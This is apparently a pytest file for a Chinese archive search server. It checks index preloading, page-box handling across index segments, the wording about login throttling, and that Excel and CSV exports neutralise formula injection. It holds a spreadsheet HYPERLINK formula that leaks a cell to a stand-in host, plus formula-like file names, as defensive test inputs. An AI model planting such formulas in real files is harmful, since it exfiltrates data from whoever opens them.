"""Hostile requests found by trying the web side as an outsider, against a real `dangan serve`
over the shared test index (real HTTP): what a link someone sends can make a clerk's
spreadsheet do."""
from __future__ import annotations

import io
import json
import time

import pytest
import requests
from openpyxl import load_workbook

from test_server import serving

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"点这里")'


@pytest.fixture(scope="module")
def base(built_index, tmp_path_factory):
    root = tmp_path_factory.mktemp("review-web")
    config = root / "config.toml"
    config.write_text(f"[index]\ndir = {json.dumps(built_index.index.dir.as_posix())}\n",
                      encoding="utf-8")
    with serving(config, root) as (url, _proc, _first, _port):
        yield url


def test_each_server_worker_loads_the_index_before_its_first_reader(base, built_index,
                                                                     tmp_path_factory):
    """The first search after a start no longer waits for the dictionary and the index (about
    2 s per worker): each worker loads them as it starts and says so in the server's log."""
    log = next(tmp_path_factory.getbasetemp().glob("review-web*/serve.log"))
    for _ in range(600):  # the second worker may still be starting (up to a minute)
        ready = [line for line in log.read_text(encoding="utf-8", errors="replace").splitlines()
                 if " ready: index of " in line]
        if len(ready) >= 2:
            break
        time.sleep(0.1)
    assert len(ready) == 2, ready  # [server] workers = 2
    assert all("index of 6 records loaded" in line for line in ready), ready


def test_an_excel_export_never_holds_a_formula_from_the_query(base):
    """The query is written into the workbook's 说明 sheet: a link to an export whose q is a
    formula must not give the clerk who opens it a live formula."""
    r = requests.get(f"{base}/api/export", params={"q": FORMULA, "format": "xlsx"}, timeout=30)
    assert r.status_code == 200, r.text
    book = load_workbook(io.BytesIO(r.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert book["说明"]["B1"].value == "'" + FORMULA  # kept readable, as text


def test_records_committed_after_a_segment_with_page_boxes_are_served_and_reindexed(tmp_path):
    """A born-digital PDF gives its segment a page-boxes column; a later commit of .txt records
    only has none. Reading such a record's boxes (the hits API, a correction, a catalog or
    sidecar edit's metadata update) used to read past the other segment's column: a 500, and
    every following `dangan index` failed whole ("IndexError: array index out of range")."""
    from conftest import write_corpus
    from pdfs import text_pdf

    from indexer.build.run import run_index
    from search_app.accounts import Accounts
    from search_app.tokens import Tokens
    from test_server import serving_corpus

    corpus = write_corpus(tmp_path / "corpus")
    (corpus / "科技/2020").mkdir(parents=True)
    text_pdf([["关于档案数字化工作的报告", "本所完成档案数字化扫描三千卷。"]],
             corpus / "科技/2020/shuzihua.pdf")
    late = corpus / "文书/2022/buji.txt"
    reader = ("查阅甲", "review web test password", "查阅人", "内部")
    with serving_corpus(tmp_path, corpus, [reader]) as (base, settings):
        accounts = Accounts(settings.data_dir)
        h = {"Authorization": f"Bearer {Tokens(accounts).create(reader[0], 1)[1]}"}
        accounts.close()
        late.parent.mkdir(parents=True)
        late.write_text("关于补记档案移交情况的说明\n档案员赵青松补记移交清册一份。\n", encoding="utf-8")
        assert run_index(settings).added == 1  # its own commit: a segment without boxes
        [hit] = requests.get(f"{base}/api/search", params={"q": "赵青松"}, headers=h,
                             timeout=30).json()["hits"]
        r = requests.get(f"{base}/api/records/{hit['id']}/pages/1/hits",
                         params={"q": "赵青松"}, headers=h, timeout=30)
        assert r.status_code == 200, r.text
        assert [h["text"] for h in r.json()["hits"]] == ["赵青松"]
        assert r.json()["page_size"] is None  # a .txt has no boxes, and no one else's

        sidecar = late.with_name(late.name + ".json")
        sidecar.write_text(json.dumps({"备注": "补记件"}, ensure_ascii=False), encoding="utf-8")
        summary = run_index(settings)  # a metadata update rebuilt from the stored record
        assert (summary.updated, summary.failed) == (1, [])
        r = requests.get(f"{base}/api/search", params={"q": "备注:补记件"}, headers=h,
                         timeout=30)
        assert r.json()["total"] == 1


def test_the_login_page_says_what_failed_logins_really_do(base):
    """Five failures slow an account down (2 s, then doubling); they never stop it for 15
    minutes at once, which the page used to say."""
    page = requests.get(f"{base}/login", timeout=30).text
    assert "该账号暂停登录 15 分钟" not in page
    assert "2 秒起，每错一次加倍，最长 15 分钟" in page and "不会被锁定" in page


def test_the_zip_manifest_never_holds_a_formula_from_a_file_name(tmp_path):
    """清单.csv names each original's entry in the zip after its file: a file named like a
    formula, in a record without 档号 or 题名, must reach the spreadsheet as text."""
    import csv
    import zipfile

    from test_server import serving_corpus

    corpus = tmp_path / "corpus"
    (corpus / "收文").mkdir(parents=True)
    (corpus / "收文" / "=SUM(1,2).txt").write_text("=CMD\n1234 5678\n", encoding="utf-8")
    (corpus / "catalog.csv").write_text("文件,密级\n\"收文/=SUM(1,2).txt\",公开\n", encoding="utf-8")
    with serving_corpus(tmp_path, corpus) as (base, _settings):
        r = requests.get(f"{base}/api/download", params={"q": "5678"}, timeout=30)
        assert r.status_code == 200, r.text
        z = zipfile.ZipFile(io.BytesIO(r.content))
        assert "=SUM(1,2).txt" in z.namelist()  # the file itself keeps its name
        header, row = csv.reader(io.StringIO(z.read("清单.csv").decode("utf-8-sig")))
        cells = dict(zip(header, row))
        assert cells["压缩包内文件"] == "'=SUM(1,2).txt" and cells["状态"] == "已打包"
        assert not [c for c in row if c.startswith(("=", "+", "-", "@"))]
